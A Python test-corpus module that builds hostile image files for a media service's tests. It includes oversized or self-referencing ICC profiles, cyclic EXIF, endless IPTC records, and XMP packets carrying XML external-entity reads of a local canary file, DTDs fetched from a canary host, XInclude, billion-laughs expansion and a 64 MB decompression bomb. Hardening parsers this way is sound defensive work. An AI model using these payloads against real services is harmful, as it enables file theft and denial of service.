"""Blocks beside the picture: profiles, EXIF, IPTC and XMP that are huge, endless, or ask for other files."""

import functools
import struct
from collections.abc import Callable, Iterator

from PIL import Image

from tests.corpus import photoshop, written
from tests.corpus.cases import picture
from tests.corpus.hostile.case import SHOWN, TOKEN, Canary, Hostile
from tests.corpus.hostile.pixels import packed_zeros
from tests.workers.media import generate

_MIB = 1 << 20


def cases(canary: Canary) -> Iterator[Hostile]:
    """A picture with such a block is shown; the block costs itself only."""
    rows = (*_profiles(), *_exif(), *_iptc(), *_xmp(canary), *_huge())
    for name, data in rows:
        yield Hostile("blocks", name, data, SHOWN)


_Row = tuple[str, bytes]


def _profiled(profile: bytes) -> bytes:
    return generate.encoded(picture(), "PNG", icc_profile=profile)


def _profiles() -> Iterator[_Row]:
    good = generate.profile()
    yield "a profile of 16 MB", generate.encoded(picture(), "JPEG", icc_profile=generate.profile(padding=16_000_000))
    yield "a profile that says it has 2^32 bytes", _profiled(b"\xff\xff\xff\xff" + good[4:])
    yield "a profile of 2^32 tags", _profiled(good[:128] + b"\xff\xff\xff\xff" + good[132:])
    tags = b"".join(struct.pack(">4sII", b"cprt", 128, 2**32 - 1) for _ in range(100))
    yield "a profile whose tags are elsewhere", _profiled(good[:128] + struct.pack(">I", 100) + tags)
    curve = good.index(b"curv") + 8
    yield "a profile with a curve of 2^32", _profiled(good[:curve] + b"\xff\xff\xff\xff" + good[curve + 4 :])
    press = generate.press_profile()
    table = press.index(b"mft1") + 8
    grid = press[:table] + bytes((15, 15, 255, 0)) + press[table + 4 :]
    inks = Image.new("CMYK", (120, 80), (9, 9, 9, 9))
    yield "a profile with a table of 255^15", generate.encoded(inks, "JPEG", icc_profile=grid)
    yield "a profile of itself", _profiled(good[:128] + struct.pack(">I4sII", 1, b"A2B0", 0, len(good)) + good[144:])
    parts = b"".join(
        written.segment(0xE2, b"ICC_PROFILE\0" + bytes((number, 255)) + b"\xff" * 65_000) for number in range(1, 256)
    )
    yield "a profile in 255 parts", written.jpeg(more=parts)
    turned = b"".join(written.segment(0xE2, b"ICC_PROFILE\0\0\0" + b"\xff" * 100) for _ in range(255))
    yield "a profile in parts of no number", written.jpeg(more=turned)


def _exif() -> Iterator[_Row]:
    loop = struct.pack(">I", 8)
    cyclic = written.big_endian_exif((0x8769, 4, 1, loop), (0x8825, 4, 1, loop))[:-4] + loop
    vast = written.big_endian_exif((0x010E, 2, 2**32 - 1, loop), (0x0112, 3, 2**32 - 1, loop))
    many = b"MM\0*\0\0\0\x08\xff\xff" + struct.pack(">HHI4s", 0x010E, 2, 1, b"a\0\0\0") * 5_000
    blocks = (("is inside of itself", cyclic), ("has 2^32 values", vast), ("has 65,535 tags", many))
    for container in (written.jpeg, written.webp, written.heic, written.avif):
        name = container.__name__.upper()
        for what, block in blocks:
            # Some encoders read what they are to write, so they are given something else of the same length.
            plain = b"MM\0*\0\0\0\x08\0\0".ljust(len(block), b"\1")
            yield f"{name}: EXIF that {what}", container(exif_block=plain).replace(plain, block)
    for what, block in blocks:
        yield f"PNG: EXIF that {what}", written.png(exif_block=block)


def _iptc() -> Iterator[_Row]:
    endless = struct.pack(">BBBHI", 0x1C, 2, 25, 0x8004, 2**32 - 1)
    yield "IPTC of 2^32 bytes", written.jpeg(irb=written.resources(endless))
    words = written.iim(*([(2, 25, b"w")] * 9_000))
    yield "IPTC of 9,000 keywords", written.jpeg(irb=written.resources(words))
    claim = b"8BIM" + struct.pack(">HHI", 1028, 0, 2**32 - 1)
    yield "a resource of 2^32 bytes", written.jpeg(irb=claim)
    yield (
        "a PSD with 4,000 resources of nothing",
        photoshop.written(b"".join(written.resource(1028, b"") for _ in range(4_000))),
    )


_Holder = Callable[[bytes], bytes]
_HOLDERS: dict[str, _Holder] = {
    "JPEG": lambda packet: written.jpeg(xmp_block=packet),
    "PNG": lambda packet: written.png(xmp_block=packet, packed=True),
    "WebP": lambda packet: written.webp(xmp_block=packet),
    "TIFF": lambda packet: written.tiff(xmp_block=packet),
    "PSD": lambda packet: photoshop.written(written.resources(xmp_block=packet)),
    "PDF": written.pdf,
    "HEIC": lambda packet: written.heic(xmp_block=packet),
    "AVIF": lambda packet: written.avif(xmp_block=packet),
}


def _xmp(canary: Canary) -> Iterator[_Row]:
    for holder, put in _HOLDERS.items():
        for name, packet in _packets(canary):
            yield f"{holder}: XMP with {name}", put(packet)
    for name, there in canary.references("canary.txt").items():
        yield f"JPEG: XMP whose entity is at {name}", written.jpeg(xmp_block=entity(there))


def entity(there: str, kind: str = "ENTITY secret SYSTEM") -> bytes:
    """A title that says what is written there."""
    body = "<dc:rights><rdf:Alt><rdf:li xml:lang='x-default'>&secret;</rdf:li></rdf:Alt></dc:rights>"
    return written.xmp(body, doctype=f'<!DOCTYPE x [<!{kind} "{there}">]>\n')


def _packets(canary: Canary) -> Iterator[tuple[str, bytes]]:
    there = f"file://{canary.path('canary.txt')}"
    yield "a file as an entity", entity(there)
    yield (
        "a listener as a parameter",
        entity(f"http://{canary.host}/a.dtd", "ENTITY % all SYSTEM").replace(b"]>", b" %all;]>"),
    )
    yield "a document type elsewhere", written.xmp(doctype=f'<!DOCTYPE x SYSTEM "http://{canary.host}/a.dtd">\n')
    included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{there}" parse="text"/>'
    yield "an inclusion", written.xmp(f"<dc:rights>{included}</dc:rights>")
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else TOKEN}">' for n in range(10))
    yield "a billion laughs", written.xmp("<dc:rights>&e9;</dc:rights>", doctype=f"<!DOCTYPE x [{laughs}]>\n")
    yield "4,000 elements inside of each other", written.xmp("<a>" * 4_000 + "</a>" * 4_000)


def _huge() -> Iterator[_Row]:
    yield "WebP: XMP of 8 MB", written.webp(xmp_block=written.xmp("<dc:rights>" + "a" * 8_000_000 + "</dc:rights>"))
    bomb = generate.chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + packed_zeros(64 * _MIB))
    plain = generate.encoded(picture(), "PNG")
    yield "PNG: XMP that unpacks to 64 MB", plain[:33] + bomb + plain[33:]
    keywords = written.xmp(written.listed("dc:subject", [f"w{n}" for n in range(15_000)]))
    yield "WebP: XMP of 15,000 keywords", written.webp(xmp_block=keywords)
    extended = functools.partial(written.segment, 0xE1)
    parts = [b"http://ns.adobe.com/xmp/extension/\0" + b"0" * 32 + struct.pack(">II", 2**32 - 1, n) for n in range(200)]
    yield "JPEG: XMP that goes on for 2^32 bytes", written.jpeg(more=b"".join(map(extended, parts)))
    begins = b'<?xpacket begin=""?>' * 100_000
    yield "PDF: 100,000 packets that begin", written.pdf(begins)
